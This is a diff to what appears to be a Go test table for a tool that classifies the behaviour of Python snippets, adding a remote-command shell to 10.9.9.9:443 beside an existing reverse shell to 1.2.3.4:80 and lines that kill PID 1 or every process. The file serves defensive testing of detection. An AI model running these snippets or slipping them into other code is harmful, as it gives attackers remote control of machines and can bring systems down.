@@ -234,6 +234,14 @@ open("/usr/local/bin/tool", "wb").write(r.content)`, []string{"connect http://x.
 	{"python", `import socket,subprocess;s=socket.socket();s.connect(("1.2.3.4",80));subprocess.Popen(["/bin/bash","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())`,
 		[]string{"connect 1.2.3.4:80", "sh: /bin/bash -i", "download 1.2.3.4:80 | bash", "send output -> 1.2.3.4:80"}},
 
+	{"python", `import socket, subprocess
+s = socket.socket()
+s.connect(("10.9.9.9", 443))
+while True:
+    cmd = s.recv(1024).decode()
+    out = subprocess.getoutput(cmd)
+    s.send(out.encode())`, []string{"connect 10.9.9.9:443", "download tcp://10.9.9.9:443 | sh", "send output -> tcp://10.9.9.9:443", "unknown", "send data -> 10.9.9.9:443"}},
+
 	// Signals and privileges.
 	{"python", `import os, signal; os.kill(1, signal.SIGKILL)`, []string{"signal KILL 1"}},
 	{"python", `import os; os.kill(-1, 9)`, []string{"signal KILL -1"}},
